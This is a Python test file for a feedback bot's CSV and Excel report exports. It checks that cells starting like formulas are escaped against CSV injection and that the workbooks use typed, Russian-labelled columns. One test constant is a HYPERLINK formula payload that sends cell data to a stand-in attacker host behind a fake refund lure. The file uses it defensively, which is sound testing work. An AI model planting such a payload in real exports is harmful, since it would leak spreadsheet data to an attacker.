"""Exports owners open in spreadsheets: no live formulas (OWASP CSV injection rule), and
workbooks with typed cells in the owners' language."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl

from bot import spreadsheet
from bot.i18n import Catalog
from bot.reports.export import as_csv, encode, file_name
from bot.reports.rows import table
from storage.db import Database
from storage.migrate import migrate
from tests.support.backend import database_url
from tests.support.reportdata import add_complaint, add_response

SENT = datetime(2026, 10, 20, 12, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")'


def test_cells_starting_like_a_formula_become_text() -> None:
    for value in ("=1+2", "+SUM(1,2)", "-2+3", "@cmd", "\tx", "\rx"):
        assert spreadsheet.cell(value) == "'" + value
    assert spreadsheet.cell("fine = ok") == "fine = ok" and spreadsheet.cell(-3) == -3
    assert spreadsheet.row(["=A1", 5, None]) == ["'=A1", 5, None]


async def test_responses_and_complaints_csv_neutralise_formulas(tmp_path: Path) -> None:
    db = Database(database_url(tmp_path, "t"))
    await db.connect()
    await migrate(db.conn)
    try:
        async with db.transaction() as tx:
            await add_response(tx.conn, 1, SENT, 2, comment=EVIL, branch="+SUM(1,2)")
            await tx.conn.execute("UPDATE purchases SET order_id = '=1+2' WHERE id = 1")
            await add_complaint(tx.conn, 1, 1, SENT)
            await tx.conn.execute("UPDATE complaints SET text = ? WHERE id = 1", ("@SUM(A1)",))
        async with db.read() as tx:
            start, end = SENT - timedelta(days=1), SENT + timedelta(days=1)
            responses = as_csv(await table(tx, "responses", start, end))
            complaints = as_csv(await table(tx, "complaints", start, end))
    finally:
        await db.close()
    response = next(csv.DictReader(io.StringIO(responses.decode("utf-8-sig"))))
    assert response["comment"] == "'" + EVIL
    assert (response["order_id"], response["branch"]) == ("'=1+2", "'+SUM(1,2)")
    assert response["nps"] == "2"
    complaint = next(csv.DictReader(io.StringIO(complaints.decode("utf-8-sig"))))
    assert complaint["text"] == "'@SUM(A1)"


async def test_the_workbook_has_typed_cells_in_the_owners_language(tmp_path: Path) -> None:
    """What a Russian Excel opens: dates as dates in TIMEZONE (Moscow, three hours ahead of
    the stored UTC), numbers as numbers, codes and titles in Russian, a comment that looks
    like a formula kept as text, a control character that XML cannot hold dropped."""
    db = Database(database_url(tmp_path, "x"))
    await db.connect()
    await migrate(db.conn)
    try:
        async with db.transaction() as tx:
            await add_response(tx.conn, 1, SENT, 2, csat=1, expectation="worse", comment=EVIL,
                               aspects=("delivery", "staff"))  # fmt: skip
            await add_response(tx.conn, 2, SENT, 9, comment="ok\x0b", segment="key")
            await add_complaint(tx.conn, 1, 1, SENT, taken_after=timedelta(minutes=5))
        async with db.read() as tx:
            start, end = SENT - timedelta(days=1), SENT + timedelta(days=1)
            responses = await table(tx, "responses", start, end)
            complaints = await table(tx, "complaints", start, end)
    finally:
        await db.close()
    ru = Catalog.load().bind("ru")
    moscow = ZoneInfo("Europe/Moscow")
    sheet = openpyxl.load_workbook(io.BytesIO(encode(responses, "xlsx", moscow, ru))).active
    assert sheet is not None and sheet.title == "Ответы на опросы"
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["№", "Заказ", "Филиал", "Сегмент", "Приглашение отправлено"]
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert first["№"].value == 1 and first["Оценка NPS"].value == 2  # numbers, not text
    assert first["Приглашение отправлено"].value == datetime(2026, 10, 20, 15, 0)  # Moscow
    assert first["Приглашение отправлено"].number_format == "DD.MM.YYYY HH:MM"
    assert first["По сравнению с ожиданиями"].value == "Хуже"
    assert first["Что не понравилось"].value == "Доставка, Персонал"
    assert first["Статус"].value == "ответ получен"
    assert first["Сегмент"].value is None  # none: an empty cell, as a filter expects
    assert first["Комментарий"].value == EVIL and first["Комментарий"].data_type == "s"
    assert first["Пришёл по приглашению друга"].value == "нет"
    second = [c.value for c in sheet[3]]
    assert "ok" in second and "ключевые клиенты" in second
    sheet = openpyxl.load_workbook(io.BytesIO(encode(complaints, "xlsx", moscow, ru))).active
    assert sheet is not None
    row = dict(zip((c.value for c in sheet[1]), (c.value for c in sheet[2]), strict=True))
    assert row["Статус"] == "в работе" and row["Откуда"] == "сообщение боту"
    assert row["Взято в работу"] == datetime(2026, 10, 20, 15, 5)
    assert encode(complaints, "csv", moscow, ru).startswith("\ufeffid,source".encode())


async def test_complaints_say_who_and_what_they_wrote_and_yes_in_words(tmp_path: Path) -> None:
    """A complaint a low score opened: the customer's name and phone, their survey comment as
    what they wrote, their confirmation as «да» (not TRUE); a yes/no of the responses too."""
    db = Database(database_url(tmp_path, "w"))
    await db.connect()
    await migrate(db.conn)
    try:
        async with db.transaction() as tx:
            await add_response(tx.conn, 1, SENT, 2, comment="Курьер нагрубил")
            await tx.conn.execute(
                "UPDATE customers SET name = 'Анна Смирнова', tg_name = 'Аня',"
                " phone = '+79990000001'"
            )
            await add_complaint(tx.conn, 1, 1, SENT, resolved_after=timedelta(hours=1),
                                satisfied=1)  # fmt: skip
            await tx.conn.execute("UPDATE complaints SET survey_id = 1, source = 'low_score'")
        async with db.read() as tx:
            start, end = SENT - timedelta(days=1), SENT + timedelta(days=1)
            responses = await table(tx, "responses", start, end)
            complaints = await table(tx, "complaints", start, end)
    finally:
        await db.close()
    ru, moscow = Catalog.load().bind("ru"), ZoneInfo("Europe/Moscow")
    sheet = openpyxl.load_workbook(io.BytesIO(encode(complaints, "xlsx", moscow, ru))).active
    assert sheet is not None
    row = dict(zip((c.value for c in sheet[1]), (c.value for c in sheet[2]), strict=True))
    assert row["Клиент"] == "Анна Смирнова" and row["Телефон"] == "+79990000001"
    assert row["Имя в Telegram"] == "Аня"  # the shop's name and Telegram's, each its own
    assert row["Что написал клиент"] == "Курьер нагрубил"
    assert row["Клиент подтвердил решение"] == "да"
    sheet = openpyxl.load_workbook(io.BytesIO(encode(responses, "xlsx", moscow, ru))).active
    assert sheet is not None
    row = dict(zip((c.value for c in sheet[1]), (c.value for c in sheet[2]), strict=True))
    assert row["Пришёл по приглашению друга"] == "нет"
    machine = next(csv.DictReader(io.StringIO(as_csv(complaints).decode("utf-8-sig"))))
    assert (machine["customer_name"], machine["phone"]) == ("Анна Смирнова", "'+79990000001")
    assert machine["text"] == "Курьер нагрубил" and machine["resolution_satisfied"] == "1"


def test_files_sent_to_owners_are_named_in_their_language() -> None:
    catalog, end = Catalog.load(), datetime(2026, 10, 31, tzinfo=UTC)
    ru, en = catalog.bind("ru"), catalog.bind("en")
    assert file_name(ru, "responses", end, "xlsx") == "ответы-2026-10-31.xlsx"
    assert file_name(ru, "complaints", end, "csv") == "обращения-2026-10-31.csv"
    assert file_name(en, "complaints", end, "xlsx") == "complaints-2026-10-31.xlsx"


async def test_each_response_says_where_it_was_answered(tmp_path: Path) -> None:
    """Telegram or the survey's web page: a code in the CSV, words in the workbook; a survey
    answered before the channel was kept counts as Telegram's (the only one then)."""
    db = Database(database_url(tmp_path, "c"))
    await db.connect()
    await migrate(db.conn)
    try:
        async with db.transaction() as tx:
            await add_response(tx.conn, 1, SENT, 2)
            await add_response(tx.conn, 2, SENT, 9)
            await tx.conn.execute("UPDATE surveys SET channel = 'web' WHERE id = 2")
        async with db.read() as tx:
            start, end = SENT - timedelta(days=1), SENT + timedelta(days=1)
            responses = await table(tx, "responses", start, end)
    finally:
        await db.close()
    machine = list(csv.DictReader(io.StringIO(as_csv(responses).decode("utf-8-sig"))))
    assert [row["channel"] for row in machine] == ["telegram", "web"]
    ru = Catalog.load().bind("ru")
    sheet = openpyxl.load_workbook(io.BytesIO(encode(responses, "xlsx", ZoneInfo("UTC"), ru)))
    rows = list(sheet.active.iter_rows(values_only=True)) if sheet.active else []
    where = rows[0].index("Где ответил")
    assert [row[where] for row in rows[1:]] == ["в Telegram", "на веб-странице"]


async def test_a_message_to_the_shops_account_is_not_called_a_message_to_the_bot(
    tmp_path: Path,
) -> None:
    """Both are stored as a `message` complaint; the account's is told apart by its
    connection, in the workbook's words and the CSV's code."""
    db = Database(database_url(tmp_path, "a", migrated=True))
    await db.connect()
    try:
        async with db.transaction() as tx:
            await add_response(tx.conn, 1, SENT, 2)
            await add_response(tx.conn, 2, SENT, 2)
            for number in (1, 2):
                await add_complaint(tx.conn, number, number, SENT)
            await tx.conn.execute("UPDATE complaints SET source = 'message'")
            await tx.conn.execute(
                "UPDATE complaints SET business_connection_id = 'bc-1' WHERE id = 2"
            )
        async with db.read() as tx:
            complaints = await table(
                tx, "complaints", SENT - timedelta(days=1), SENT + timedelta(days=1)
            )
    finally:
        await db.close()
    ru, utc = Catalog.load().bind("ru"), ZoneInfo("UTC")
    sheet = openpyxl.load_workbook(io.BytesIO(encode(complaints, "xlsx", utc, ru))).active
    assert sheet is not None
    sources = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sources == ["сообщение боту", "сообщение в Telegram-аккаунт магазина"]
    machine = csv.DictReader(io.StringIO(as_csv(complaints).decode("utf-8-sig")))
    assert [row["source"] for row in machine] == ["message", "account_message"]
